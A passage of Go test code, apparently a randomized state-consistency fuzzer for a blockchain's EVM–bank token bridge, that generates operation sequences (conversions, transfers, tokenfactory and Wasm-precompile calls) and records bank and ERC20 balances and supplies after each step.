	}
	add(prim)
	refOf := func(ft evm.FunToken) mapRef {
		return mapRef{Tok: w.tokID(ft.Erc20Addr.Address), D: w.denomRefOf(ft.BankDenom), Coin: ft.IsMadeFromCoin}
	}
	for _, ft := range fts {
		a := ft.Erc20Addr.Address
		r := refOf(ft)
		m := mapObs{Tok: r.Tok, D: r.D, Coin: r.Coin}
		m.ESup = bigStr(erc.LoadERC20BigInt(ctx, evmObj, abiERC, a, "totalSupply"))
		m.EMod = bigStr(erc.BalanceOf(a, evm.EVM_MODULE_ADDRESS, ctx, evmObj))
		m.BSup = bk.GetSupply(ctx, ft.BankDenom).Amount.String()
		if ft.BankDenom == evm.EVMBankDenom {
			m.BSup = bk.GetSupply(ctx, ft.BankDenom).Amount.Sub(w.gasOutside).String()
		}
		m.BMod = bk.GetBalance(ctx, w.nibi(0), ft.BankDenom).Amount.String()
		o.Reg = append(o.Reg, m)
	}
	// after a CreateFunToken: what each index answers under every spelling of the named denom / for every contract
	var created []c06Op
	for _, sub := range flatOps(op) {
		if sub.K == "create_coin" || sub.K == "create_erc20" || sub.K == "wasm_create_coin" || sub.K == "wasm_create_erc20" {
			created = append(created, sub)
		}
	}
	if len(created) > 0 {
		var asked []denomRef
		ask := func(r denomRef) {
			for _, q := range asked {
				if q == r {
					return
				}
			}
			asked = append(asked, r)
		}
		for _, sub := range created {
			named := denomRef{K: "e", N: sub.T}
			if sub.K == "create_coin" || sub.K == "wasm_create_coin" {
				if sub.D == nil {
					continue
				}
				named = *sub.D
			}
			for sp := 0; sp <= maxSp; sp++ {
				ask(denomRef{K: named.K, N: named.N, Sp: sp})
			}
		}
		for _, ft := range fts {
			ask(w.denomRefOf(ft.BankDenom))
		}
		for _, q := range asked {
			q := q
			l := lkDen{D: q, M: []mapRef{}}
			for _, ft := range byDenom(w.denom(&q)) {
				l.M = append(l.M, refOf(ft))
			}
			o.LkD = append(o.LkD, l)
		}
		for t, a := range w.toks {
			l := lkTok{T: t, M: []mapRef{}}
			for _, ft := range byTok(a) {
				l.M = append(l.M, refOf(ft))
			}
			o.LkT = append(o.LkT, l)
		}
	}
	sort.SliceStable(o.Reg, func(i, j int) bool {
		if o.Reg[i].Tok != o.Reg[j].Tok {
			return o.Reg[i].Tok < o.Reg[j].Tok
		}
		ki := fmt.Sprintf("%s/%04d/%d", o.Reg[i].D.K, o.Reg[i].D.N, o.Reg[i].D.Sp)
		kj := fmt.Sprintf("%s/%04d/%d", o.Reg[j].D.K, o.Reg[j].D.N, o.Reg[j].D.Sp)
		return ki < kj
	})
	// the token / denom this op names, completed through the registry
	tt, td := -1, (*denomRef)(nil)
	if op.K == "seq" && len(op.Ops) == 2 {
		op = op.Ops[1]
	}
	switch op.K {
	case "deploy":
		if ok {
			tt = len(w.toks) - 1
		}
	case "send_to_bank", "erc20_transfer", "erc20_burn", "create_erc20", "wasm_create_erc20":
		tt = op.T
	case "wasm_convert", "wasm_create_coin", "wasm_bank_send":
		td = op.D
	case "fund", "convert", "send_to_evm", "bank_msg_send", "create_coin", "tf_create", "tf_mint", "tf_burn", "tf_change_admin", "bank_send", "bank_multisend":
		td = op.D
	}
	for _, m := range o.Reg {
		if tt >= 0 && td == nil && m.Tok == tt {
			d := m.D
			td = &d
		} else if td != nil && tt < 0 && m.D == *td {
			tt = m.Tok
		}
	}
	if tt >= len(w.toks) {
		tt = -1
	}
	accts := append([]int{}, touchActors...)
	if tt >= 0 {
		accts = append(accts, 100+tt)
		o.TT = tt
		for _, id := range accts {
			o.EBal = append(o.EBal, bigStr(erc.BalanceOf(w.toks[tt], w.addr(id), ctx, evmObj)))
		}
	}
	if td != nil {
		o.TD = td
		for _, id := range accts {
			if td.K == "g" && td.Sp == 0 && id >= 1 && id <= 4 {
				o.BBal = append(o.BBal, "-1") // pays transaction gas / fees in this coin: not compared
				continue
			}
			o.BBal = append(o.BBal, bk.GetBalance(ctx, w.nibi(id), w.denom(td)).Amount.String())
		}
	}
	return o
}

func containsAddr(xs []gethcommon.Address, a gethcommon.Address) bool {
	for _, x := range xs {
		if x == a {
			return true
		}
	}
	return false
}

func flatOps(op c06Op) []c06Op {
	if op.K == "seq" {
		return op.Ops
	}
	return []c06Op{op}
}

func (w *world) runCase(ops []c06Op) []stepObs {
	var obs []stepObs
	for _, op := range ops {
		for _, sub := range flatOps(op) {
			if sub.D != nil {
				w.spelled = append(w.spelled, w.denom(sub.D))
			}
		}
		if w.inBlk >= 6 {
			w.c.EndBlock()
			w.c.BeginBlock(5 * time.Second)
			w.inBlk = 0
		}
		w.inBlk++
		var ok bool
		if p := Recover(func() { ok = w.run(op) }); p != "" {
			w.t.Fatalf("driver panic on %+v: %s", op, p)
		}
		obs = append(obs, w.observe(op, ok))
	}
	w.c.EndBlock()
	return obs
}

// ---------------------------------------------------------------- generation

type shadowMap struct {
	tok  int
	d    denomRef
	coin bool
}

// gen keeps an approximate shadow of the world (who holds roughly what) so that most generated ops are
// well-formed and funded; the shadow is only a generation heuristic, never an oracle.
type gen struct {
	r     *Rng
	ops   []c06Op
	ntok  int
	kinds []string // kind per token id ("minter" for module-deployed)
	meta  map[denomRef]bool
	maps  []shadowMap
	bank  map[denomRef]map[int]int64
	erc   map[int]map[int]int64
	tf    []denomRef       // factory denoms created so far
	admin map[denomRef]int // … and their admins
	ibc   []denomRef       // IBC vouchers (chain spelling) the bank knows
	wasm  bool             // this history uses the reflect contract (account 7)
}

func gasPayer(d denomRef, a int) bool { return d.K == "g" && d.Sp == 0 && a >= 1 && a <= 4 }

// the gas payers hold ~10^17 unibi; the shadow pretends a small balance so that amounts stay far from the real one
func (g *gen) bbal(d denomRef, a int) int64 {
	if gasPayer(d, a) {
		return 1000
	}
	return g.bank[d][a]
}
func (g *gen) ebal(t, a int) int64           { return g.erc[t][a] }
func (g *gen) addB(d denomRef, a int, x int64) {
	if gasPayer(d, a) {
		return
	}
	if g.bank[d] == nil {
		g.bank[d] = map[int]int64{}
	}
	g.bank[d][a] += x
}
func (g *gen) addE(t, a int, x int64) {
	if g.erc[t] == nil {
		g.erc[t] = map[int]int64{}
	}
	g.erc[t][a] += x
}

// amount: mostly affordable for a holder with shadow balance bal
func (g *gen) amount(bal int64) string {
	r := g.r
	hi := bal
	if hi > 400 {
		hi = 400
	}
	switch r.Pick(70, 6, 4, 8, 4, 4, 4) {
	case 0:
		if hi >= 1 {
			return strconv.Itoa(r.Range(1, int(hi)))
		}
		return strconv.Itoa(r.Range(1, 40))
	case 1:
		if bal >= 1 && bal < 1_000_000 {
			return strconv.FormatInt(bal, 10) // everything
		}
		return strconv.Itoa(r.Range(1, 60))
	case 2:
		return "0"
	case 3:
		return strconv.FormatInt(bal+int64(r.Range(1, 3)), 10) // just above the balance
	case 4:
		return strconv.Itoa(r.Range(4000, 9000))
	case 5:
		return "1000000000000000000000000000000"
	default:
		return strconv.Itoa(10 * r.Range(1, 30))
	}
}

func (g *gen) fmtTo() string {
	if g.r.Chance(1, 2) {
		return "hex"
	}
	return "bech32"
}

func (g *gen) anyTo() int {
	r := g.r
	switch r.Pick(74, 8, 6, 12) {
	case 0:
		return r.Range(1, 6)
	case 1:
		return 0
	case 2:
		if g.ntok > 0 {
			return 100 + r.Intn(g.ntok)
		}
		return 6
	default:
		return []int{1, 2, 5}[r.Intn(3)] // accounts that can act on the EVM side later
	}
}

func (g *gen) pickMap(coin int) (shadowMap, bool) { // coin: 1 coin-born, 0 erc-born, -1 any
	var c []shadowMap
	for _, m := range g.maps {
		if coin < 0 || (coin == 1) == m.coin {
			c = append(c, m)
		}
	}
	if len(c) == 0 {
		return shadowMap{}, false
	}
	return c[g.r.Intn(len(c))], true
}

var wasmFrames = []string{"plain", "revert_top", "inner_revert", "swallow", "once_then_reverted"}

// wasmSub: a bridge message / bank send the forwarder has its reflect contract (account 7) dispatch through the Wasm precompile
func (g *gen) wasmSub() c06Op {
	r := g.r
	d := g.randDenom()
	if m, ok := g.pickMap(1); ok && !r.Chance(1, 6) {
		d = &m.d
	} else if m, ok := g.pickMap(-1); ok && !r.Chance(1, 6) {
		d = &m.d
	}
	switch r.Pick(9, 5, 1, 1) {
	case 0:
		return c06Op{K: "wasm_convert", A: 5, D: d, X: g.amount(g.bbal(*d, 7)), To: g.anyTo(), Fmt: "hex"}
	case 1:
		return c06Op{K: "wasm_bank_send", A: 5, D: d, X: g.amount(g.bbal(*d, 7)), To: g.escrowOrAny()}
	case 2:
		cd := g.coinDenom()
		return c06Op{K: "wasm_create_coin", A: 5, D: &cd}
	default:
		return c06Op{K: "wasm_create_erc20", A: 5, T: r.Intn(g.ntok + 1)}
	}
}

func (g *gen) wasmOp() c06Op {
	op := g.wasmSub()
	op.Frame = wasmFrames[g.r.Pick(3, 3, 6, 4, 4)]
	return op
}

// respell: another spelling of the same name
func (g *gen) respell(d denomRef) denomRef {
	sp := g.r.Range(1, maxSp)
	if sp == d.Sp {
		sp = 0
	}
	return denomRef{K: d.K, N: d.N, Sp: sp}
}

// spellingOp: the class "one name, several strings": CreateFunToken / metadata / funds / conversions under another
// spelling of a denom that is already mapped (or at least known to the bank)
func (g *gen) spellingOp() c06Op {
	r := g.r
	var base denomRef
	if m, ok := g.pickMap(-1); ok && !r.Chance(1, 5) {
		base = m.d
	} else if len(g.ibc) > 0 && !r.Chance(1, 4) {
		base = g.ibc[r.Intn(len(g.ibc))]
	} else {
		base = g.coinDenom()
	}
	d := g.respell(base)
	if base.Sp > 0 && r.Chance(1, 3) {
		d = base // the very string of a mapping that itself sits under a non-chain spelling
	}
	switch r.Pick(10, 4, 2, 2, 2) {
	case 0:
		return c06Op{K: "create_coin", A: r.Range(3, 4), D: &d}
	case 1:
		return c06Op{K: "meta", D: &d}
	case 2:
		return c06Op{K: "fund", A: r.Range(3, 5), D: &d, X: strconv.Itoa(r.Range(20, 400))}
	case 3:
		a, bal := g.holder([]int{3, 4}, func(a int) int64 { return g.bbal(d, a) })
		return c06Op{K: "convert", A: a, D: &d, X: g.amount(bal), To: g.anyTo(), Fmt: "hex"}
	default:
		a, bal := g.holder(evmActors, func(a int) int64 { return g.bbal(d, a) })
		return g.evmSide(c06Op{K: "send_to_evm", A: a, D: &d, X: g.amount(bal), To: g.anyTo()}, true)
	}
}

func (g *gen) coinDenom() denomRef {
	if len(g.tf) > 0 && g.r.Chance(1, 3) {
		return g.tf[g.r.Intn(len(g.tf))]
	}
	if len(g.ibc) > 0 && g.r.Chance(1, 4) {
		return g.ibc[g.r.Intn(len(g.ibc))]
	}
	if g.r.Chance(1, 4) {
		return denomRef{K: "g"}
	}
	return denomRef{K: "c", N: g.r.Intn(4)}
}

func (g *gen) randDenom() *denomRef {
	if g.r.Chance(1, 2) {
		d := g.coinDenom()
		return &d
	}
	return &denomRef{K: "e", N: g.r.Intn(g.ntok + 1)}
}

func (g *gen) isMappedTok(t int) bool {
	for _, m := range g.maps {
		if m.tok == t {
			return true
		}
	}
	return false
}

func (g *gen) isMappedDen(d denomRef) bool {
	for _, m := range g.maps {
		if m.d == d {
			return true
		}
	}
	return false
}

func (g *gen) mapOfDen(d denomRef) (shadowMap, bool) {
	for _, m := range g.maps {
		if m.d == d {
			return m, true
		}
	}
	return shadowMap{}, false
}

func (g *gen) mapOfTok(t int) (shadowMap, bool) {
	for _, m := range g.maps {
		if m.tok == t {
			return m, true
		}
	}
	return shadowMap{}, false
}

// holder picks, among cands, an account with a positive shadow balance (bal = its balance), else any of cands.
func (g *gen) holder(cands []int, bal func(a int) int64) (int, int64) {
	var have []int
	for _, a := range cands {
		if bal(a) > 0 {
			have = append(have, a)
		}
	}
	if len(have) > 0 && !g.r.Chance(1, 10) {
		a := have[g.r.Intn(len(have))]
		return a, bal(a)
	}
	a := cands[g.r.Intn(len(cands))]
	return a, bal(a)
}

// evmSide decorates an EVM-side op: the forwarder (5) acts through a frame, EOAs act directly.
func (g *gen) evmSide(op c06Op, precompileOp bool) c06Op {
	r := g.r
	if op.A == 5 {
		op.Frame = []string{"plain", "revert_top", "inner_revert", "swallow", "once_then_reverted"}[r.Pick(3, 2, 5, 3, 4)]
	}
	if precompileOp {
		op.Fmt = g.fmtTo()
		if r.Chance(4, 100) {
			op.BadTo = true
		}
		if (op.Frame == "" || op.Frame == "plain") && r.Chance(7, 100) {
			op.Gas = uint64(r.Range(30, 260)) * 1000
		}
	}
	return op
}

func feeCut(kind string, x int64) int64 {
	if kind == "fee" {
		return x - x*10/100
	}
	return x
}

func (g *gen) push(op c06Op) {
	g.ops = append(g.ops, op)
	g.note(op)
}

// note: shadow bookkeeping (approximate: assumes well-formed, funded ops succeed)
func (g *gen) note(op c06Op) {
	if op.K == "seq" {
		for _, sub := range op.Ops {
			g.note(sub)
		}
		return
	}
	x, _ := strconv.ParseInt(op.X, 10, 64)
	effective := !op.BadTo && op.Gas == 0 && (op.Frame == "" || op.Frame == "plain" || op.Frame == "swallow" || op.Frame == "once_then_reverted")
	kindOf := func(t int) string {
		if t >= 0 && t < len(g.kinds) {
			return g.kinds[t]
		}
		return ""
	}
	switch op.K {
	case "tf_create":
		if _, have := g.admin[*op.D]; !have && op.D.N/10 == op.A {
			g.tf = append(g.tf, *op.D)
			g.admin[*op.D] = op.A
			g.meta[*op.D] = true
		}
	case "tf_mint":
		if g.admin[*op.D] == op.A && x > 0 && op.To != 0 {
			g.addB(*op.D, op.To, x)
		}
	case "tf_burn":
		if g.admin[*op.D] == op.A && x > 0 && op.To != 0 && g.bbal(*op.D, op.To) >= x {
			g.addB(*op.D, op.To, -x)
		}
	case "tf_change_admin":
		if g.admin[*op.D] == op.A {
			g.admin[*op.D] = op.To
		}
	case "bank_send":
		if x > 0 && op.To != 0 && g.bbal(*op.D, op.A) >= x {
			g.addB(*op.D, op.A, -x)
			g.addB(*op.D, op.To, x)
		}
	case "meta":
		g.meta[*op.D] = true
	case "fund":
		g.addB(*op.D, op.A, x)
	case "deploy":
		g.kinds = append(g.kinds, op.Kind)
		sup := int64(1_000_000_000_000)
		if op.Kind == "fee" || op.Kind == "false" {
			sup = 1000
		}
		g.addE(g.ntok, op.A, sup)
		g.ntok++
	case "create_coin":
		if (op.D.K != "e" || op.D.Sp != 0) && g.meta[*op.D] && !g.isMappedDen(*op.D) {
			g.maps = append(g.maps, shadowMap{tok: g.ntok, d: *op.D, coin: true})
			g.kinds = append(g.kinds, "minter")
			g.ntok++
		}
	case "create_erc20":
		if op.T < g.ntok && !g.isMappedTok(op.T) {
			g.maps = append(g.maps, shadowMap{tok: op.T, d: denomRef{K: "e", N: op.T}, coin: false})
		}
	case "erc20_transfer":
		if effective && x > 0 && kindOf(op.T) != "heavy" && kindOf(op.T) != "" && g.ebal(op.T, op.A) >= x {
			g.addE(op.T, op.A, -x)
			g.addE(op.T, op.To, feeCut(kindOf(op.T), x))
		}
	case "erc20_burn":
		if effective && x > 0 && kindOf(op.T) == "minter" && g.ebal(op.T, op.A) >= x {
			g.addE(op.T, op.A, -x)
		}
	case "convert", "send_to_evm":
		if m, ok := g.mapOfDen(*op.D); ok && effective && x > 0 && g.bbal(*op.D, op.A) >= x && kindOf(m.tok) != "heavy" && op.To != 0 {
			g.addB(*op.D, op.A, -x)
			g.addE(m.tok, op.To, feeCut(kindOf(m.tok), x))
		}
	case "send_to_bank":
		if m, ok := g.mapOfTok(op.T); ok && effective && x > 0 && g.ebal(op.T, op.A) >= x && kindOf(op.T) != "heavy" && op.To != 0 {
			g.addE(op.T, op.A, -x)
			g.addB(m.d, op.To, feeCut(kindOf(op.T), x))
		}
	case "bank_msg_send":
		if effective && x > 0 && g.bbal(*op.D, op.A) >= x && op.To != 0 {
			g.addB(*op.D, op.A, -x)
			g.addB(*op.D, op.To, x)
		}
	case "wasm_bank_send":
		if effective && x > 0 && g.bbal(*op.D, 7) >= x && op.To != 0 {
			g.addB(*op.D, 7, -x)
			g.addB(*op.D, op.To, x)
		}
	}
}

var evmActors = []int{1, 2, 5}

func (g *gen) randomOp() {
	r := g.r
	switch r.Pick(6, 7, 15, 18, 15, 6, 13, 5, 3, 2, 12, 12, 10, 12) {
	case 13: // through the Wasm precompile
		if g.wasm {
			g.push(g.wasmOp())
		} else {
			g.push(g.spellingOp())
		}
	case 12: // the same name under another spelling
		g.push(g.spellingOp())
	case 0: // create from coin
		d := g.coinDenom()
		if r.Chance(1, 15) && g.ntok > 0 {
			d = denomRef{K: "e", N: r.Intn(g.ntok)}
		}
		g.push(c06Op{K: "create_coin", A: r.Range(3, 4), D: &d})
	case 1: // create from erc20
		g.push(c06Op{K: "create_erc20", A: r.Range(3, 4), T: r.Intn(g.ntok + 1)})
	case 2: // MsgConvertCoinToEvm
		d := g.randDenom()
		if m, ok := g.pickMap(-1); ok && !r.Chance(1, 12) {
			d = &m.d
		}
		a, bal := g.holder([]int{3, 4}, func(a int) int64 { return g.bbal(*d, a) })
		x := g.amount(bal)
		if r.Chance(3, 100) {
			x = "-" + strconv.Itoa(r.Range(1, 50))
		}
		g.push(c06Op{K: "convert", A: a, D: d, X: x, To: g.anyTo(), Fmt: "hex"})
	case 3: // sendToBank
		t := r.Intn(g.ntok + 2)
		if m, ok := g.pickMap(-1); ok && !r.Chance(1, 12) {
			t = m.tok
		}
		a, bal := g.holder(evmActors, func(a int) int64 { return g.ebal(t, a) })
		g.push(g.evmSide(c06Op{K: "send_to_bank", A: a, T: t, X: g.amount(bal), To: g.anyTo()}, true))
	case 4: // sendToEvm
		d := g.randDenom()
		if m, ok := g.pickMap(r.Intn(2)); ok && !r.Chance(1, 12) {
			d = &m.d
		} else if m, ok := g.pickMap(-1); ok && !r.Chance(1, 12) {
			d = &m.d
		}
		a, bal := g.holder(evmActors, func(a int) int64 { return g.bbal(*d, a) })
		g.push(g.evmSide(c06Op{K: "send_to_evm", A: a, D: d, X: g.amount(bal), To: g.anyTo()}, true))
	case 5: // bankMsgSend
		d := g.randDenom()
		if m, ok := g.pickMap(-1); ok && !r.Chance(1, 6) {
			d = &m.d
		}
		a, bal := g.holder(evmActors, func(a int) int64 { return g.bbal(*d, a) })
		g.push(g.evmSide(c06Op{K: "bank_msg_send", A: a, D: d, X: g.amount(bal), To: g.anyTo()}, true))
	case 6: // ERC20 transfer by a user (incl. donations to the module, supplying the forwarder)
		t := r.Intn(g.ntok + 1)
		a, bal := g.holder(evmActors, func(a int) int64 { return g.ebal(t, a) })
		to := g.anyTo()
		g.push(g.evmSide(c06Op{K: "erc20_transfer", A: a, T: t, X: g.amount(bal), To: to}, false))
	case 7: // ERC20 burn by a user
		t := r.Intn(g.ntok + 1)
		if m, ok := g.pickMap(1); ok && !r.Chance(1, 4) {
			t = m.tok
		}
		a, bal := g.holder(evmActors, func(a int) int64 { return g.ebal(t, a) })
		g.push(g.evmSide(c06Op{K: "erc20_burn", A: a, T: t, X: g.amount(bal)}, false))
	case 8:
		fd := denomRef{K: "c", N: r.Intn(3)}
		fa := r.Range(1, 6)
		if r.Chance(1, 4) {
			fd, fa = denomRef{K: "g"}, r.Range(5, 6)
		}
		g.push(c06Op{K: "fund", A: fa, D: &fd, X: strconv.Itoa(r.Range(1, 500))})
	case 9:
		g.push(c06Op{K: "deploy", A: r.Range(1, 2), Kind: []string{"std", "fee", "heavy", "false"}[r.Pick(4, 4, 1, 1)]})
	case 10: // two ops in one transaction
		g.push(g.seqOp())
	case 11: // other modules' transactions around the escrow: x/tokenfactory admin ops, plain bank sends
		g.push(g.otherModuleOp())
	}
}

// escrowOrAny: an account, with a good share of attempts on the EVM module account itself
func (g *gen) escrowOrAny() int {
	if g.r.Chance(3, 10) {
		return 0
	}
	return g.anyTo()
}

func (g *gen) otherModuleOp() c06Op {
	r := g.r
	if len(g.tf) == 0 || r.Chance(1, 12) {
		if r.Chance(1, 2) {
			a := r.Range(3, 4)
			return c06Op{K: "tf_create", A: a, D: &denomRef{K: "t", N: a*10 + r.Intn(3)}}
		}
	}
	d := g.coinDenom()
	if len(g.tf) > 0 && r.Chance(3, 4) {
		d = g.tf[r.Intn(len(g.tf))]
	}
	sender := r.Range(3, 4)
	if a, ok := g.admin[d]; ok && (a == 3 || a == 4) && !r.Chance(1, 8) {
		sender = a
	}
	switch r.Pick(4, 6, 1, 5, 3) {
	case 0:
		return c06Op{K: "tf_mint", A: sender, D: &d, X: g.amount(500), To: g.escrowOrAny()}
	case 1:
		from := g.escrowOrAny()
		return c06Op{K: "tf_burn", A: sender, D: &d, X: g.amount(g.bbal(d, from)), To: from}
	case 2:
		return c06Op{K: "tf_change_admin", A: sender, D: &d, To: []int{3, 4, 3, 4, 1, 5}[r.Intn(6)]}
	case 3:
		a := r.Range(3, 4)
		return c06Op{K: "bank_send", A: a, D: &d, X: g.amount(g.bbal(d, a)), To: g.escrowOrAny()}
	default:
		a := r.Range(3, 4)
		to, to2 := g.escrowOrAny(), g.escrowOrAny()
		if to == a {
			to = 6
		}
		if to2 == a || to2 == to {
			to2 = 7 - a
		}
		return c06Op{K: "bank_multisend", A: a, D: &d, X: strconv.Itoa(r.Range(1, 40)), To: to, X2: strconv.Itoa(r.Range(1, 40)), To2: to2}
	}
}

// evmSub: one EVM-side op issued by the forwarder (no frame of its own)
func (g *gen) evmSub() c06Op {
	r := g.r
	five := func(bal func(a int) int64) int64 { return bal(5) }
	// prefer mappings whose token / coin the forwarder holds
	heldTok := func() (int, bool) {
		var c []int
		for _, m := range g.maps {
			if g.ebal(m.tok, 5) > 0 {
				c = append(c, m.tok)
			}
		}
		if len(c) == 0 {
			return 0, false
		}
		return c[r.Intn(len(c))], true
	}
	heldDen := func() (*denomRef, bool) {
		var c []denomRef
		for _, m := range g.maps {
			if g.bbal(m.d, 5) > 0 {
				c = append(c, m.d)
			}
		}
		if len(c) == 0 {
			return nil, false
		}
		d := c[r.Intn(len(c))]
		return &d, true
	}
	switch r.Pick(4, 4, 3, 2) {
	case 0:
		t := r.Intn(g.ntok + 1)
		if ht, ok := heldTok(); ok && !r.Chance(1, 8) {
			t = ht
		} else if m, ok := g.pickMap(-1); ok && !r.Chance(1, 10) {
			t = m.tok
		}
		return c06Op{K: "send_to_bank", A: 5, T: t, X: g.amount(five(func(a int) int64 { return g.ebal(t, a) })), To: g.anyTo(), Fmt: g.fmtTo()}
	case 1:
		d := g.randDenom()
		if hd, ok := heldDen(); ok && !r.Chance(1, 8) {
			d = hd
		} else if m, ok := g.pickMap(-1); ok && !r.Chance(1, 10) {
			d = &m.d
		}
		return c06Op{K: "send_to_evm", A: 5, D: d, X: g.amount(five(func(a int) int64 { return g.bbal(*d, a) })), To: g.anyTo(), Fmt: g.fmtTo()}
	case 2:
		t := r.Intn(g.ntok + 1)
		return c06Op{K: "erc20_transfer", A: 5, T: t, X: g.amount(five(func(a int) int64 { return g.ebal(t, a) })), To: g.anyTo()}
	default:
		d := g.randDenom()
		if m, ok := g.pickMap(-1); ok && !r.Chance(1, 6) {
			d = &m.d
		}
		return c06Op{K: "bank_msg_send", A: 5, D: d, X: g.amount(five(func(a int) int64 { return g.bbal(*d, a) })), To: g.anyTo(), Fmt: g.fmtTo()}
	}
}

// gasSub: an op of the forwarder on the gas-coin mapping (if there is one)
func (g *gen) gasSub(m shadowMap) c06Op {
	r := g.r
	gd := denomRef{K: "g"}
	switch r.Pick(5, 3, 2) {
	case 0:
		return c06Op{K: "send_to_evm", A: 5, D: &gd, X: g.amount(g.bbal(gd, 5)), To: g.anyTo(), Fmt: g.fmtTo()}
	case 1:
		return c06Op{K: "send_to_bank", A: 5, T: m.tok, X: g.amount(g.ebal(m.tok, 5)), To: g.anyTo(), Fmt: g.fmtTo()}
	default:
		return c06Op{K: "bank_msg_send", A: 5, D: &gd, X: g.amount(g.bbal(gd, 5)), To: g.anyTo(), Fmt: g.fmtTo()}
	}
}

func (g *gen) seqOp() c06Op {
	r := g.r
	if g.wasm && r.Chance(1, 3) {
		// a message dispatched through the Wasm precompile and another bridge call in the SAME transaction
		a, b := g.wasmSub(), g.evmSub()
		if r.Chance(1, 4) {
			a, b = b, a
		} else if r.Chance(1, 5) {
			b = g.wasmSub()
		}
		return c06Op{K: "seq", A: 5, Ops: []c06Op{a, b}}
	}
	if m, ok := g.mapOfDen(denomRef{K: "g"}); ok && r.Chance(1, 2) {
		a, b := g.gasSub(m), g.gasSub(m)
		if r.Chance(1, 3) {
			b = g.evmSub()
		}
		return c06Op{K: "seq", A: 5, Ops: []c06Op{a, b}}
	}
	if r.Chance(2, 3) {
		return c06Op{K: "seq", A: 5, Ops: []c06Op{g.evmSub(), g.evmSub()}}
	}
	// two messages of one Cosmos signer in one tx
	a := r.Range(3, 4)
	conv := func() c06Op {
		d := g.randDenom()
		if m, ok := g.pickMap(-1); ok && !r.Chance(1, 10) {
			d = &m.d
		}
		return c06Op{K: "convert", A: a, D: d, X: g.amount(g.bbal(*d, a)), To: g.anyTo(), Fmt: "hex"}
	}
	switch r.Pick(3, 2, 2) {
	case 0:
		return c06Op{K: "seq", A: a, Ops: []c06Op{conv(), conv()}}
	case 1:
		d := g.coinDenom()
		second := conv()
		second.D = &d
		return c06Op{K: "seq", A: a, Ops: []c06Op{{K: "create_coin", A: a, D: &d}, second}}
	default:
		return c06Op{K: "seq", A: a, Ops: []c06Op{{K: "create_erc20", A: a, T: r.Intn(g.ntok + 1)}, conv()}}
	}
}

func genCase(r *Rng) []c06Op {
	g := &gen{r: r, meta: map[denomRef]bool{}, bank: map[denomRef]map[int]int64{}, erc: map[int]map[int]int64{}, admin: map[denomRef]int{}}
	nd := r.Range(2, 3)
	for d := 0; d < nd; d++ {
		g.push(c06Op{K: "meta", D: &denomRef{K: "c", N: d}})
		for a := 1; a <= 5; a++ {
			g.push(c06Op{K: "fund", A: a, D: &denomRef{K: "c", N: d}, X: strconv.Itoa(r.Range(50, 3000))})
		}
	}
	for i, n := 0, r.Range(1, 3); i < n; i++ {
		owner := r.Range(1, 2)
		kind := []string{"std", "fee", "heavy", "false"}[r.Pick(5, 6, 1, 1)]
		g.push(c06Op{K: "deploy", A: owner, Kind: kind})
		// spread the token: other EOA, forwarder, a Cosmos account
		for _, to := range []int{3 - owner, 5, 3} {
			g.push(c06Op{K: "erc20_transfer", A: owner, T: g.ntok - 1, To: to, X: strconv.Itoa(r.Range(20, 200))})
		}
	}
	// the gas coin as a FunToken: metadata, unibi for the forwarder, (mostly) the mapping itself
	if r.Chance(3, 5) {
		gd := denomRef{K: "g"}
		g.push(c06Op{K: "meta", D: &gd})
		g.push(c06Op{K: "fund", A: 5, D: &gd, X: strconv.Itoa(r.Range(500, 5000))})
		if r.Chance(4, 5) {
			g.push(c06Op{K: "create_coin", A: 4, D: &gd})
		}
	}
	// a tokenfactory denom with holders, (mostly) mapped as a coin-born FunToken: its admin is a third party to the bridge
	if r.Chance(1, 2) {
		a := r.Range(3, 4)
		td := denomRef{K: "t", N: a*10 + r.Intn(2)}
		g.push(c06Op{K: "tf_create", A: a, D: &td})
		for _, to := range []int{3, 4, 5, 1} {
			g.push(c06Op{K: "tf_mint", A: a, D: &td, X: strconv.Itoa(r.Range(200, 3000)), To: to})
		}
		if r.Chance(5, 6) {
			g.push(c06Op{K: "create_coin", A: 7 - a, D: &td})
			g.push(c06Op{K: "convert", A: a, D: &td, X: strconv.Itoa(r.Range(50, 190)), To: r.Range(1, 2), Fmt: "hex"})
		}
	}
	// an IBC voucher "ibc/<HASH>" with holders, (mostly) mapped, then re-registration attempts under other spellings of
	// the hash (with and without bank metadata under that spelling) and conversions afterwards
	if r.Chance(3, 5) {
		id := denomRef{K: "i", N: r.Intn(3)}
		g.ibc = append(g.ibc, id)
		g.push(c06Op{K: "meta", D: &id})
		for _, a := range []int{3, 4, 5, 1} {
			g.push(c06Op{K: "fund", A: a, D: &id, X: strconv.Itoa(r.Range(100, 3000))})
		}
		if r.Chance(1, 3) {
			alt := g.respell(id)
			g.push(c06Op{K: "meta", D: &alt})
			g.push(c06Op{K: "fund", A: 3, D: &alt, X: strconv.Itoa(r.Range(50, 500))})
		}
		if r.Chance(1, 4) { // a spelling registered BEFORE the chain's own
			alt := g.respell(id)
			g.push(c06Op{K: "create_coin", A: 4, D: &alt})
		}
		if r.Chance(7, 8) {
			g.push(c06Op{K: "create_coin", A: r.Range(3, 4), D: &id})
			g.push(c06Op{K: "convert", A: 3, D: &id, X: strconv.Itoa(r.Range(20, 90)), To: r.Range(1, 2), Fmt: "hex"})
		}
		for i, n := 0, r.Range(1, 3); i < n; i++ {
			alt := g.respell(id)
			g.push(c06Op{K: "create_coin", A: r.Range(3, 4), D: &alt})
		}
		g.push(c06Op{K: "convert", A: 4, D: &id, X: strconv.Itoa(r.Range(5, 60)), To: []int{1, 2, 5}[r.Intn(3)], Fmt: "hex"})
	}
	// mostly create the mappings early
	if r.Chance(4, 5) {
		g.push(c06Op{K: "create_coin", A: 3, D: &denomRef{K: "c", N: r.Intn(nd)}})
	}
	// the reflect contract of the forwarder holds coins of the (to be) mapped denoms, sometimes enough unibi for a creation fee
	if r.Chance(9, 20) {
		g.wasm = true
		for d := 0; d < nd; d++ {
			g.push(c06Op{K: "fund", A: 7, D: &denomRef{K: "c", N: d}, X: strconv.Itoa(r.Range(100, 2000))})
		}
		for _, m := range g.maps {
			if m.coin && m.d.K != "c" && !gasPayer(m.d, 1) {
				g.push(c06Op{K: "fund", A: 7, D: &denomRef{K: m.d.K, N: m.d.N, Sp: m.d.Sp}, X: strconv.Itoa(r.Range(100, 2000))})
			}
		}
		if r.Chance(1, 2) {
			g.push(c06Op{K: "fund", A: 7, D: &denomRef{K: "g"}, X: "20000000500"})
		}
		g.push(g.wasmOp())
	}
	if r.Chance(9, 10) {
		g.push(c06Op{K: "create_erc20", A: 4, T: r.Intn(g.ntok)})
	}
	for i, n := 0, r.Range(12, 26); i < n; i++ {
		g.randomOp()
	}
	return g.ops
}

